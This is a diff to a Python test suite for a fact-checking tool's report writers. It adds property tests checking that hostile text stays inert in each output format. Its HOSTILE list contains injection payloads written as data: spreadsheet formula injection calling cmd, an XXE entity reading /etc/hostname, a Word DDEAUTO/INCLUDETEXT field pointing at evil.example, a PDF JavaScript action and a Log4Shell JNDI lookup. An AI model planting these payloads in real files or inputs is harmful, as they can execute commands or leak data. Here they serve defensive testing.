@@ -7,7 +7,7 @@ import re
 from abc import ABC, abstractmethod
 from dataclasses import dataclass, replace
 from datetime import UTC, date, datetime
-from typing import Final
+from typing import Any, ClassVar, Final
 
 import pytest
 from hypothesis import HealthCheck, assume, example, given, settings
@@ -15,16 +15,18 @@ from hypothesis import strategies as st
 
 from factcheck.domain.articles import Article, Block, BlockKind
 from factcheck.domain.citations import Citation
-from factcheck.domain.claims import Claim, ClaimKind
+from factcheck.domain.claims import Ambiguity, Claim, ClaimKind, Substitution
 from factcheck.domain.documents import DocumentKind, Passage
+from factcheck.domain.lineage import ClaimStep, StepAct, Wording
 from factcheck.domain.matches import Match
+from factcheck.domain.organisation import Organisation, Rating
 from factcheck.domain.provenance import Provenance
 from factcheck.domain.reasons import Reason, ReasonCode
 from factcheck.domain.reviews import Act, Quote, ReviewEvent, ReviewState
 from factcheck.domain.spans import Span
 from factcheck.domain.stances import Comparison, Difference, Stance, StanceLabel
 from factcheck.domain.statuses import Status
-from factcheck.domain.suggestions import Gap, Suggestion, WeighedPassage
+from factcheck.domain.suggestions import Gap, Leaning, Suggestion, WeighedPassage
 from factcheck.domain.views import ClaimView, EvidenceView, ReportRows
 
 NOW: Final = datetime(2026, 3, 12, 7, 30, tzinfo=UTC)
@@ -64,6 +66,22 @@ HOSTILE: Final = (
     "\ud83d alone, \udc00 too",
     "']]}\",\n".replace("\n", ""),
     "\x1f",
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hostname'>]>&e;",
+    "]]></w:t></w:r><w:p/><!--",
+    "{ DDEAUTO c:\\windows\\system32\\cmd.exe '/k calc' } { INCLUDETEXT http://evil.example/x }",
+    ") >> endobj 1 0 obj << /S /JavaScript /JS (app.alert(1)) >> (",
+    "\\u0041 %s %n {0} ${jndi:ldap://evil.example/a}",
+    "שלום עולם 12 חדשות",
+    "مرحبا بالعالم 123",
+    "e\u0301\u0302\u0303 a\u20dd Z\u0351\u036b\u0343",
+    "😀 👩\u200d👩\u200d👧 🇩🇪 \U0010fffd",
+    "字符 日本語",
+    "\ufffe \uffff \ufdd0",
 )
 """Text that would be something else than text in one of the formats, in a terminal, or in a file."""
 
@@ -78,7 +96,7 @@ class Seen:
 
 def rows_saying(words: str, *, claims: int = 1) -> ReportRows:
     """A report in which every text, ids and digests too, is or begins with `words`."""
-    source = Provenance(address=words, retrieved_at=NOW, sha256=words, reader=words)
+    source = Provenance(address=words, retrieved_at=NOW, sha256=words, reader=words, publisher=words, owner=words)
     article = Article(
         id=words,
         title=words,
@@ -94,6 +112,9 @@ def rows_saying(words: str, *, claims: int = 1) -> ReportRows:
         generated_at=NOW,
         articles=(article,),
         claims=tuple(_view(words, f"{words} [{number}]" if number else words, article) for number in range(claims)),
+        organisation=Organisation(
+            name=words, url=words, review_url=words, ratings=(Rating(name=words, status=Status.REFUTED, value=1),)
+        ),
     )
 
 
@@ -104,34 +125,49 @@ def _view(words: str, said: str, article: Article) -> ClaimView:
         span=Span(0, len(words)),
         spans=(Span(0, len(words)),),
         said=said,
-        checked="not as said: " + words,
+        checked="not as said: " + said,
         kind=ClaimKind.STATEMENT,
         check_worthiness=0.5,
         detector=words,
+        worthiness_by=words,
         reasons=(words,),
         speaker=words,
+        said_on=date(2026, 3, 8),
+        substitutions=(
+            Substitution(span=Span(0, len(words)), said=words, written=words, why=words, source=Span(0, len(words))),
+        ),
+        ambiguities=(Ambiguity(span=Span(0, len(words)), said=words, why=words, candidates=(words,)),),
+        parent_ids=(words,),
     )
     found = tuple(_evidence(words, kind, attached=kind is not DocumentKind.NEWS) for kind in DocumentKind)
     quotes = tuple(each.quote for each in found if each.quote)
     decision = _decision(2, claim, words, quotes)
+    reason = Reason(code=ReasonCode.PASSAGE_SUPPORTS, words=words)
     return ClaimView(
         claim=claim,
         state=ReviewState(status=Status.REFUTED, revision=2, decision=decision, attached=quotes),
         suggestion=Suggestion(
             claim_id=claim.id,
             status=Status.SUPPORTED,
-            confidence=None,
+            confidence=0.75,
             model=words,
             version=words,
             basis=words,
-            passages=tuple(WeighedPassage(match=e.match, stance=e.stance) for e in found if e.match and e.stance),
+            passages=tuple(
+                WeighedPassage(match=e.match, stance=e.stance, remark=reason) for e in found if e.match and e.stance
+            ),
             deciding_passage_id=found[0].passage.id,
-            reasons=(Reason(code=ReasonCode.PASSAGE_SUPPORTS, words=words),),
+            reasons=(reason,),
             gaps=(Gap(span=Span(0, len(claim.checked)), note=words),),
             suggested_at=NOW,
+            counter_passage_id=found[1].passage.id,
+            thresholds={"supports": 0.5},
+            index=words,
+            leans=Leaning(status=Status.SUPPORTED, score=0.4),
         ),
         evidence=found,
-        history=(_decision(1, claim, words, ()), decision),
+        history=(_decision(1, claim, words, ()), decision, _withdrawal(3, claim, words)),
+        lineage=(_step(claim, words),),
     )
 
 
@@ -147,6 +183,31 @@ def _decision(number: int, claim: Claim, words: str, quotes: tuple[Quote, ...]) 
         rationale=words,
         without_evidence=words,
         quotes=quotes,
+        reuses=7,
+    )
+
+
+def _withdrawal(number: int, claim: Claim, words: str) -> ReviewEvent:
+    """Of a decision that the log has, but another than the one in force."""
+    return ReviewEvent(
+        number=number, claim_id=claim.id, act=Act.WITHDRAW, by=words, at=NOW, revision=number, withdraws=1
+    )
+
+
+def _step(claim: Claim, words: str) -> ClaimStep:
+    wording = Wording(checked=words, kind=claim.kind, speaker=words, substitutions=claim.substitutions)
+    return ClaimStep(
+        number=1,
+        claim_id=claim.id,
+        act=StepAct.EDIT,
+        by=words,
+        at=NOW,
+        revision=1,
+        reason=words,
+        before=wording,
+        after=wording,
+        related_ids=(words,),
+        takes_back=1,
     )
 
 
@@ -162,57 +223,97 @@ def _evidence(words: str, kind: DocumentKind, *, attached: bool) -> EvidenceView
         publisher=words,
         owner=words,
         author=words,
+        published_on=date(2026, 2, 3),
     )
     difference = Difference(
-        aspect="quantity", comparison=Comparison.DIFFERS, claim_span=Span(0, 1), passage_span=None, note=words
+        aspect="quantity", comparison=Comparison.DIFFERS, claim_span=Span(0, 1), passage_span=Span(0, 1), note=words
     )
     return EvidenceView(
         passage=passage,
         citation=citation,
-        match=Match(passage_id=passage.id, fused=0.1, lexical_score=None, vector_score=0.5),
+        match=Match(passage_id=passage.id, fused=0.1, lexical_score=1.5, vector_score=0.5),
         stance=Stance(
-            passage_id=passage.id, label=StanceLabel.REFUTES, scores=(0.1, 0.8, 0.1), differences=(difference,)
+            passage_id=passage.id,
+            label=StanceLabel.REFUTES,
+            scores=(0.1, 0.8, 0.1),
+            differences=(difference,),
+            span=Span(0, len(words)),
         ),
         quote=Quote(passage_id=passage.id, text=words, stance=StanceLabel.REFUTES) if attached else None,
     )
 
 
-class ReportWriterContract(ABC):
-    """Subclass it for a format: say how to write it, how to read it back, and how it shows text."""
+class WriterContract(ABC):
+    """Subclass it for a format that other programs read: say how to write it, how to read it back, and how it shows
+    text. The class is called `Test` and the name of the format."""
+
+    stream: ClassVar[type[io.StringIO | io.BytesIO]] = io.StringIO
+    many: ClassVar[int] = 300
+    """Claims of a report that is still written at once."""
+    large: ClassVar[int] = 1_000_000
+    """Characters of a rationale that is still shown whole."""
 
     @abstractmethod
-    def write(self, rows: ReportRows, out: io.StringIO) -> None:
+    def write(self, rows: ReportRows, out: Any) -> None:
         """The writer."""
 
     @abstractmethod
-    def see(self, written: str) -> Seen:
+    def see(self, written: Any) -> Seen:
         """Read a report with a parser of its format; fails where it isn't valid."""
 
     @abstractmethod
     def as_shown(self, text: str) -> str:
         """`text` as it stands in `Seen.text`."""
 
-    def report(self, rows: ReportRows) -> str:
-        out = io.StringIO()
+    @abstractmethod
+    def active(self, written: Any) -> list[str]:
+        """What a report does by itself or when it is clicked, each in words, but for links to web pages."""
+
+    def report(self, rows: ReportRows) -> Any:
+        """A report as `write` gives it: text, or bytes."""
+        out = self.stream()
         self.write(rows, out)
         return out.getvalue()
 
+    def shows(self, text: str, seen: str) -> bool:
+        return self.as_shown(text) in seen
+
+    def empty(self, rows: ReportRows) -> str:
+        """What is to be read in a report of these rows, which hold no claim."""
+        seen = self.see(self.report(rows)).text
+        assert HARMLESS not in seen
+        return seen
+
     def test_no_rows_is_a_valid_empty_report(self) -> None:
-        written = self.report(ReportRows(version="0.1.0", generated_at=NOW, articles=(), claims=()))
-        assert written.endswith("\n")
-        assert "0.1.0" in self.see(written).text
+        self.empty(ReportRows(version="0.1.0", generated_at=NOW, articles=(), claims=()))
 
     def test_an_article_without_claims_is_a_valid_report(self) -> None:
-        rows = replace(rows_saying("Quiet day"), claims=())
-        assert "Quiet day" in self.see(self.report(rows)).text
+        self.empty(replace(rows_saying("Quiet day"), claims=()))
 
     def test_every_claim_appears(self) -> None:
-        seen = self.see(self.report(rows_saying("claim number", claims=300))).text
-        found = {int(number) for number in re.findall(r"claim number \[(\d+)\]", seen)}
-        assert found == set(range(1, 300))
+        seen = self.see(self.report(rows_saying("claim number", claims=self.many))).text
+        found = {int(number) for number in re.findall(r"claim\s*number\s*\[(\d+)\]", seen)}
+        assert found == set(range(1, self.many))
 
     def test_the_same_rows_give_the_same_report(self) -> None:
         assert self.report(rows_saying(HARMLESS)) == self.report(rows_saying(HARMLESS))
+
+    def test_hostile_texts_together_are_shown_and_do_nothing(self) -> None:
+        words = " ".join(HOSTILE)
+        written = self.report(rows_saying(words))
+        seen = self.see(written).text
+        assert self.shows(words, seen)
+        assert not self.active(written)
+        self.check_that_no_control_is_left(written, seen)
+
+    def test_a_long_rationale_is_shown_whole(self) -> None:
+        rows = rows_saying(HARMLESS)
+        (view,) = rows.claims
+        assert view.state.decision is not None
+        told = " ".join(f"word{number}" for number in range(self.large // 10))
+        decision = replace(view.state.decision, rationale=told)
+        rows = replace(rows, claims=(replace(view, state=replace(view.state, decision=decision)),))
+        assert self.shows(told, self.see(self.report(rows)).text)
 
     @pytest.mark.parametrize("words", HOSTILE, ids=ascii)
     def test_hostile_text_stays_text(self, words: str) -> None:
@@ -231,6 +332,25 @@ class ReportWriterContract(ABC):
         written = self.report(rows_saying(words))
         seen = self.see(written)
         assert seen.structure == self.see(self.report(rows_saying(HARMLESS))).structure
-        assert self.as_shown(words) in seen.text
-        assert written.encode("utf-8").decode("utf-8") == written
-        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]", written)
+        assert self.shows(words, seen.text)
+        assert not self.active(written)
+        self.check_that_no_control_is_left(written, seen.text)
+
+    def check_that_no_control_is_left(self, written: str | bytes, seen: str) -> None:
+        if isinstance(written, str):
+            assert written.encode("utf-8").decode("utf-8") == written
+        # Some formats end their lines with a carriage return and a line feed.
+        lines = (written if isinstance(written, str) else seen).replace("\r\n", "\n")
+        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]", lines)
+
+
+class ReportWriterContract(WriterContract):
+    """Subclass it for a format that people read: it tells of the articles too, and how it was made."""
+
+    def empty(self, rows: ReportRows) -> str:
+        written = self.report(rows)
+        assert isinstance(written, bytes) or written.endswith("\n")
+        seen = super().empty(rows)
+        assert self.shows(rows.version, seen)
+        assert all(self.shows(article.title, seen) for article in rows.articles)
+        return seen
